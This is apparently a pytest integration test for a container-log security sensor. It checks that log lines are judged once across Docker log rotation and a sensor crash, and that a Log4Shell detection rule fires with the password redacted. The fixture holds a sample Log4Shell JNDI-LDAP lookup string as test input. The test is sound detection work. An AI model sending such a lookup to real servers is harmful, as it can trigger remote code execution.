"""Lines that real containers write are judged: through Docker's rotation and our own crash, each once, with names."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from docker.types import LogConfig

from hullwatch.rules.pack import builtin_files
from tests.kubernetes_intake import Intake, intake, open_folder, until

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.lab import Engine

LINES = 3000
SEEN = """
- rule: Line seen
  desc: every line with a number
  source: container_log
  condition: log.text startswith "number "
  output: "%log.text"
  priority: INFO
"""
LOG4SHELL = '192.0.2.7 - - [28/Nov/2026] "GET /?q=${jndi:ldap://192.0.2.9/a} HTTP/1.1" 200 5 "password=hunter22"'
WRITES = f"""
i=0; while [ $i -lt {LINES} ]; do echo "number $i of those that fill the log until it is another"; i=$((i+1)); done
printf '\\033[31m%s\\n' '{LOG4SHELL}' >&2
sleep 3600
"""


@pytest.fixture
def run(docker_engine: Engine) -> Iterator[Intake]:
    """A run over the logs of all containers of the lab's Docker, with the pack and a rule for every line."""
    path = Path(docker_engine.client.info()["DockerRootDir"]) / "containers" / "*" / "*-json.log"
    rules = "".join(file.text.decode() for file in builtin_files("container_log")) + SEEN
    settings = f'[container_logs]\nfiles = ["{path}"]\nbegin = "beginning"\n'
    with open_folder() as folder, intake(folder, settings, rules) as made:
        yield made


def test_each_line_of_a_container_is_judged_once_through_rotation_and_a_crash(
    run: Intake, docker_engine: Engine
) -> None:
    run.start()
    until(lambda: "Taking logs of containers" in run.said)
    container = docker_engine.client.containers.run(
        docker_engine.image,
        ["sh", "-c", WRITES],
        name="talker-of-logs",
        detach=True,
        log_config=LogConfig(type="json-file", config={"max-size": "100k", "max-file": "8"}),
    )
    try:
        until(lambda: [one for one in run.alerts() if one.rule == "Line seen"])
        run.kill()
        seen = until(lambda: len(found := numbers(run)) >= LINES and found)
        (alert,) = until(lambda: [one for one in run.alerts() if one.rule == "Log4Shell lookup in a log"])
    finally:
        container.remove(force=True)
    assert run.stop() == 0
    assert sorted(seen) == list(range(LINES))
    assert (alert.container_name, alert.container_image) == ("talker-of-logs", docker_engine.image)
    assert alert.output_fields["log.address"] == "192.0.2.7"
    assert "hunter22" not in f"{alert.message}{alert.output_fields}"
    assert alert.origin is not None
    assert alert.origin.container == container.id  # the key by which the sensor's alerts of it are grouped too


def numbers(run: Intake) -> list[int]:
    return [int(one.message.split()[1]) for one in run.alerts() if one.rule == "Line seen"]
